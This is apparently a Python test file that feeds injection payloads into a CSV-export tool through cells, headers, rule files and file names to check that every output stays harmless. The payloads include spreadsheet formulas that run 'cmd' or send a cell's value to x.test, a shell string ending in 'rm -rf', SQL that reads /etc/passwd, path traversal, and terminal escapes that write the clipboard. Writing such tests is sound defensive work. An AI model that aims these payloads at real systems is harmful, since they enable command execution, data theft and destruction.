"""Texts that attack whoever reads them: in cells, headers, rule files and file names, and harmless in every output.

What no output may hold is checked on every run (`conftest`); the table says that the texts went through all the same.
"""

from __future__ import annotations

from tests.hostile.case import HEADINGS, Case, line_ends, record, rule_text, table, yaml_text

TEXTS = {
    "a formula": "=1+1",
    "a formula that calls": "=cmd|'/c calc'!A0",
    "a formula that sends": '=HYPERLINK("http://x.test/?"&A1;"Cliquez")',
    "a formula by plus": "+1+cmd|'/c calc'!A0",
    "a formula by minus": "-1+1",
    "a formula by at": "@SUM(1;1)",
    "a formula behind blanks": "\u2003\u3000=1+1",
    "a formula of full width": "\uff1d1+1",
    "a formula behind a line break": "x\n=1+1",
    "a formula behind a semicolon": "x;=1+1",
    "a formula behind a semicolon and a quote": 'x;"=1+1',
    "a formula behind a tab": "x\t=1+1",
    "a formula behind a carriage return": "x\r=1+1",
    "a formula behind a character without width": "\u200b=1+1",
    "HTML": "<img src=x onerror=alert(1)>",
    "a script": "</script><script>alert(1)</script>",
    "markup of rich": "[bold red]x[/bold red] [link=http://x.test]y[/link]",
    "markup of rich that is not closed": "[/] [/red] \\[x",
    "colours": "\x1b[31mrouge\x1b[0m",
    "a screen wiped": "\x1b[2J\x1b[Hvide",
    "a title of the window": "\x1b]0;titre\x07",
    "a link of the terminal": "\x1b]8;;http://x.test\x1b\\cliquez\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "a control of eight bits": "\x9b31mrouge\x9d0;titre\x9c",
    "a bell": "\x07ding\x07",
    "steps back": "95 %\b\b\b\b40 %",
    "a line overwritten": "manqué\rtenu",
    "line breaks of every kind": "a\nb\x0bc\x0cd\x85e\u2028f\u2029g",
    "right to left": "\u202egpj\u202c",
    "isolates and marks": "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c",
    "embeddings": "\u202aa\u202bb\u202dc",
    "no width": "te\u200bnu\u200c\u200d\u2060\ufeff",
    "letters that nobody sees": "\u3164\u115f\u2800\u00ad\u034f",
    "tags that nobody sees": "x\U000e0041\U000e0042",
    "no character at all": "\ufffe\uffff\u0378\ue000",
    "accents piled up": "e" + "\u0301" * 200,
    "SQL": "'; DROP TABLE export_s_0; --",
    "SQL with quotes": "\"); SELECT read_text('/etc/passwd'); --",
    "a pattern": ".*(a+)+$[",
    "a template": "{{7*7}} ${7*7} %s %(x)s {0}",
    "shell": "$(touch /tmp/x) `id` ; rm -rf",
    "a path": "../../../../etc/passwd",
    "a word of YAML": "yes",
    "JSON": '{"a": [1, "\\u0000"]}',
    "a very long word": "x" * 100_000,
    "a very long text of controls": "\x1b[1m" * 5_000,
}


FILE_NAMES = {
    "escape codes": "a\x1b[31m\x1b]0;t\x07.csv",
    "a line break": "a\nrules.yaml, line 1: no fault.csv",
    "right to left": "a\u202evsc.csv",
    "no width": "a\u200b\ufeff.csv",
    "bytes that are no utf-8": "a\udce9\udcff.csv",
    "a formula": "=1+1.csv",
    "quotes and SQL": "'); DROP TABLE x; --\".csv",
    "signs of patterns": "[a]*?{b}.csv",
    "blanks": " a .csv",
    "a colon and a percent sign": "%2e%2e:a%s{0}.csv",
    "markup of rich": "[bold]a[-].csv",
    "two hundred letters": "a" * 200 + ".csv",
}


def _text(text: str) -> Case:
    """The text as a channel, by which the results are grouped, in a key, where a day is expected, and in the rules."""
    kept = text.strip(" \t\u00a0\u202f\ufeff").replace("\r\n", "\n").replace("\r", "\n")
    headings = [*HEADINGS[:2], text, *HEADINGS[3:]]
    lines = [record(1, text), [f"2{text}", *record(2)[1:]], ["3", text, "courrier", "1", ""]]
    quoted = yaml_text(text)
    return Case(
        files={"a.csv": table(*lines, headings=headings)},
        rules=rule_text(
            source={"label": quoted},
            columns={"channel": f"header: {quoted}, type: text"},
            title=quoted,
            label=quoted,
            organisation=quoted,
        ),
        rows=3,
        cases=2,
        rejected=[("bad_date", 1 + line_ends(table(*lines[:-1], headings=headings)))],
        groups={kept: 1, "courrier": 1},
    )


def _file(name: str) -> Case:
    """The name for an export with a rejected row."""
    return Case(files={name: table(record(1), ["2", "?", "x", "1", ""])}, rows=2, cases=1, rejected=[("bad_date", 3)])


def _refused_file(name: str) -> Case:
    """The name for an export that is refused."""
    return Case(files={name: table(record(1)).replace("Canal", "Voie")}, status=3, words=['no column "Canal"'])


CASES = {
    **{f"text: {name}": _text(text) for name, text in TEXTS.items()},
    **{f"file name: {name}": _file(text) for name, text in FILE_NAMES.items()},
    **{f"file name of a refused file: {name}": _refused_file(text) for name, text in FILE_NAMES.items()},
    "rule file's name": Case(files={"a.csv": table(record(1))}, rules_name="\x1b[31mr\u202e\n=1.yaml", rows=1, cases=1),
    "a text that a half character ends": Case(
        files={
            "a.csv": table(record(1)).encode("utf-16") + "2;01/02/2008;\ud83d;1;\n".encode("utf-16-le", "surrogatepass")
        },
        source={"encoding": "utf-16"},
        rows=2,
        cases=1,
        rejected=[("undecodable_bytes", 3)],
    ),
}
